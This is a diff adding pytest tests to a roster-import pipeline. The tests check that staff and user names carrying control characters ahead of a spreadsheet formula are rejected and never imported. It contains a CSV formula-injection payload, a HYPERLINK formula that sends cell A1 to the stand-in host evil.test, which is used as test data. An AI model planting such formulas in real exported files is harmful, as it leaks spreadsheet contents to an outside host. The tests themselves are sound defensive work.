@@ -165,3 +165,101 @@ def test_damaged_zips_only_ever_raise_a_roster_error():
         except RosterError:
             outcomes["refused"] += 1
     assert outcomes["refused"] > 1000
+
+
+CONTROL_CHARACTERS = [chr(code) for code in [*range(0x20), 0x7F]]
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open")'
+
+
+@pytest.mark.parametrize("control", CONTROL_CHARACTERS, ids=lambda c: f"U+{ord(c):04X}")
+def test_no_control_character_hides_a_formula_in_our_csv(control):
+    rows = [
+        {
+            "person_id": "p1",
+            "email": "eve@maple.test",
+            "full_name": control + FORMULA,
+            "role": "teacher",
+            "school_id": "s1",
+            "school_name": "Maple",
+        },
+        {
+            "person_id": "p2",
+            "email": "ed@maple.test",
+            "full_name": "Ed" + control + "Smith",
+            "role": "teacher",
+            "school_id": "s1",
+            "school_name": "Maple",
+        },
+    ]
+    if control == "\x00":
+        with pytest.raises(RosterError, match="a NUL character"):
+            read(simple_csv(rows), "staff.csv")
+        return
+    roster = read(simple_csv(rows), "staff.csv")
+    assert roster.people == {}
+    reasons = [e["reason"] for e in roster.errors]
+    assert len(reasons) == 2
+    assert reasons[0] in (
+        f"The full_name cell holds a control character (U+{ord(control):04X}).",
+        "The full_name cell starts with = + - or @ (a formula).",  # trimmed like a space
+    )
+    assert reasons[1] == f"The full_name cell holds a control character (U+{ord(control):04X})."
+
+
+@pytest.mark.parametrize("control", CONTROL_CHARACTERS, ids=lambda c: f"U+{ord(c):04X}")
+def test_no_control_character_hides_a_formula_in_a_bundle(control):
+    users = [
+        {**USERS_11[0], "givenName": control + FORMULA},
+        {**USERS_11[1], "familyName": "Ok" + control + "ri"},
+        USERS_11[2],
+    ]
+    orgs = [*ORGS, {"sourcedId": "s3", "name": control + FORMULA, "type": "school"}]
+    content = oneroster_11(users=users, orgs=orgs)
+    if control == "\x00":
+        with pytest.raises(RosterError, match="a NUL character"):
+            read(content)
+        return
+    roster = read(content)
+    assert set(roster.people) == {"u3"}
+    assert set(roster.schools) == {"s1", "s2"}
+    assert {e["file"] for e in roster.errors} == {"orgs.csv", "users.csv"}
+    assert all(
+        "control character" in e["reason"] or "(a formula)" in e["reason"] for e in roster.errors
+    )
+
+
+def test_a_name_with_a_control_character_before_a_formula_is_never_imported(
+    district_admin, client_for, monkeypatch
+):
+    from pipeline import tasks
+
+    monkeypatch.setattr(tasks.import_roster, "delay", lambda run_id: None)
+    rows = [
+        {
+            "person_id": "p1",
+            "email": "eve@maple.test",
+            "full_name": "\x01" + FORMULA,
+            "role": "teacher",
+            "school_id": "s1",
+            "school_name": "Maple",
+        },
+        {
+            "person_id": "p2",
+            "email": "ann@maple.test",
+            "full_name": "Ann Lee",
+            "role": "teacher",
+            "school_id": "s1",
+            "school_name": "Maple",
+        },
+    ]
+    client = client_for(district_admin)
+    upload = SimpleUploadedFile("staff.csv", simple_csv(rows))
+    body = client.post(URL, {"file": upload}, follow=True).content.decode()
+    assert "1 row with problems" in body
+    assert "The full_name cell holds a control character (U+0001)." in body
+    run = ImportRun.objects.get()
+    client.post(f"/roster/import/{run.pk}/apply/", {"skip_bad_rows": "on"})
+    tasks.import_roster(run.pk)
+    assert User.objects.filter(email="ann@maple.test").exists()
+    assert not User.objects.filter(email="eve@maple.test").exists()
+    assert not User.objects.filter(full_name__contains="HYPERLINK").exists()
